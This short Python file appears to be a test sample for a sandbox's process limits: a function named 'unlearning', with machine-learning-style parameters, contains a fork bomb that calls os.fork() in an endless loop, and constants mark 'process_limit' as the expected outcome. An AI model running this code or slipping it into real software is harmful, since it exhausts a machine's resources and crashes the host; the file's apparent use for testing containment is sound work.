"""Doubles itself for ever."""

import os

LAYER = "limits"
EXPECTED = "process_limit"


def unlearning(net, retain, forget, validation):
    while True:
        os.fork()
